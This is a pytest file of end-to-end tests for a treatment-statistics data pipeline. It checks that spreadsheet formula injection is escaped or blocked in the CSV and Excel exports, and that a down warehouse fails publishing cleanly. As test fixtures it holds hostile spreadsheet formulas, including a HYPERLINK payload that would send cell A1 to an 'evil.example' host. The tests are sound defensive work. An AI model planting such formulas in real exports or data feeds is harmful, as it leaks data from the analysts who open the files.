"""End to end, on a real (small) pipeline run: formula injection never reaches an analyst's export, extract
text cannot reach one at all, a hostile extract value stops the run, and a warehouse that is down fails the
publish clearly without a Parquet-only release."""

from __future__ import annotations

import csv
import os
import shutil
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from treatment_marts.core.config import load_areas, load_rules
from treatment_marts.core.settings import REPO_DIR, Settings
from treatment_marts.marts import dimension_levels, load_marts
from treatment_marts.ops.synth import generate_extract, write_extract
from treatment_marts.pipeline.publish import publish
from treatment_marts.pipeline.run import run_period
from treatment_marts.publish.exports import NATIONAL
from treatment_marts.publish.release import PublishError

PERIOD = "2024-03"
EVIL_MALE = '=HYPERLINK("http://evil.example/?"&A1,"Male")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
DOWN_URL = "postgresql+psycopg://analyst:s3cret@127.0.0.1:9/warehouse"


def hostile_config(target: Path) -> Path:
    """The real configuration with formula-like labels, title and caveat (config is trusted, but the
    guard must not depend on that)."""
    shutil.copytree(REPO_DIR / "include" / "config", target)
    rules = yaml.safe_load((target / "rules.yaml").read_text())
    rules["collapses"]["sex"]["groups"] = {EVIL_MALE: ["M"], "+Female": ["F"], "-Not known": ["U"]}
    rules["collapses"]["sex"]["missing"] = "-Not known"
    (target / "rules.yaml").write_text(yaml.safe_dump(rules, sort_keys=False))
    # The reference population uses the marts' sex labels, so it takes the hostile ones too.
    population = target / "reference" / "population.csv"
    lines = population.read_text().splitlines()
    renamed = {",sex,Male,": f',sex,"{EVIL_MALE.replace(chr(34), chr(34) * 2)}",', ",sex,Female,": ",sex,+Female,"}
    for old, new in renamed.items():
        lines = [line.replace(old, new) for line in lines]
    population.write_text("\n".join(lines) + "\n")
    marts = yaml.safe_load((target / "marts.yaml").read_text())
    for mart in marts["marts"]:
        mart["title"] = "@" + mart["title"]
        mart["caveats"] = [*mart.get("caveats", []), "-1 is not a count"]
    (target / "marts.yaml").write_text(yaml.safe_dump(marts, sort_keys=False))
    return target


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, dict]:
    base = tmp_path_factory.mktemp("e2e")
    settings = replace(Settings.from_env(data_root=base / "data"), config_dir=hostile_config(base / "config"))
    extract = write_extract(
        generate_extract(PERIOD, clients=1000, areas=["Northton"], seed=7), base / "inbox" / "extract.csv"
    )
    return settings, run_period(settings, PERIOD, extract, run_id="e2e_1")


def test_formula_labels_reach_the_marts_but_never_an_export_unescaped(run: tuple[Settings, dict]) -> None:
    settings, result = run
    mart = pd.read_parquet(settings.public_dir / "marts" / "in_treatment_substance_area_sex" / f"period={PERIOD}")
    assert EVIL_MALE in set(
        mart["sex"]
    )  # the mart keeps the configured label as data (SQL/Parquet are not spreadsheets)
    exports = Path(result.publish.exports)
    csv_files, books = sorted((exports / "csv").glob("*.csv")), sorted(exports.glob("*.xlsx"))
    assert csv_files and books
    seen_escaped = 0
    for path in csv_files:
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.lstrip(" ").startswith(FORMULA_START), (path.name, cell)
                    seen_escaped += cell == "'" + EVIL_MALE
    assert seen_escaped > 0
    for path in books[:2]:  # one per area; two are enough to cover the notes and every mart sheet
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                    assert not (isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(FORMULA_START)), (
                        cell.value
                    )


def test_no_extract_text_reaches_an_export(run: tuple[Settings, dict]) -> None:
    """Every text cell of every export is a configured label, a fixed note or a number: free text from the
    extract has no way in (dimension labels come from config collapses, areas and bands)."""
    settings, result = run
    rules, areas = load_rules(settings.config_dir), load_areas(settings.config_dir)
    levels = dimension_levels(rules, areas)
    marts = {m.name: m for m in load_marts(settings.config_dir).marts}
    for path in sorted((Path(result.publish.exports) / "csv").glob("*.csv")):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        definition = marts[path.stem]
        for dimension in definition.dimensions:
            configured = levels.get(dimension) or list(getattr(definition, "prevalence_groups", None) or {})
            assert configured, (path.stem, dimension, "no configured labels")
            allowed = {*configured, "Total", NATIONAL}
            values = {v[1:] if v.startswith("'") else v for v in frame[dimension]}
            assert values <= allowed, (path.stem, dimension, sorted(values - allowed)[:3])
        assert set(frame["period"]) == {PERIOD}


def test_a_formula_in_the_extract_stops_the_run_before_anything_is_published(tmp_path: Path) -> None:
    from treatment_marts.validation.gx_runner import ValidationFailed

    frame = generate_extract(PERIOD, clients=300, areas=["Northton"], seed=3)
    frame.loc[frame.index[:3], "agency_code"] = '=HYPERLINK("http://evil")'
    frame.loc[frame.index[3:5], "dat_code"] = "@SUM"
    extract = write_extract(frame, tmp_path / "inbox" / "extract.csv")
    settings = Settings.from_env(data_root=tmp_path / "data")
    with pytest.raises(ValidationFailed, match="agency_code"):
        run_period(settings, PERIOD, extract, run_id="hostile")
    assert not settings.public_dir.exists()
    assert len(list((settings.raw_dir / f"period={PERIOD}").glob("*.csv"))) == 1  # the evidence is kept


def _tree(root: Path) -> dict[str, object]:
    out: dict[str, object] = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink():
            out[str(path.relative_to(root))] = os.readlink(path)
        elif path.is_file() and path.name != ".publish.lock":
            out[str(path.relative_to(root))] = path.read_bytes()
    return out


def test_a_warehouse_that_is_down_fails_the_publish_stage_clearly_and_changes_nothing(
    run: tuple[Settings, dict],
) -> None:
    settings, result = run
    before_public = _tree(settings.public_dir)
    before_log = _tree(settings.restricted_dir / "suppression_log")
    down = replace(settings, warehouse_url=DOWN_URL, restricted_warehouse_url=DOWN_URL)
    with pytest.raises(PublishError) as caught:
        publish(down, PERIOD, "e2e_2", result.protect.staged_dir)
    message = str(caught.value)
    assert "cannot connect to the warehouse" in message and "127.0.0.1:9" in message
    assert "nothing was published" in message and "s3cret" not in message
    assert "Northton" not in message and "HYPERLINK" not in message  # no data in the message
    # No Parquet-only release: every mart link, manifest, export and the restricted log are as before.
    assert _tree(settings.public_dir) == before_public
    assert _tree(settings.restricted_dir / "suppression_log") == before_log
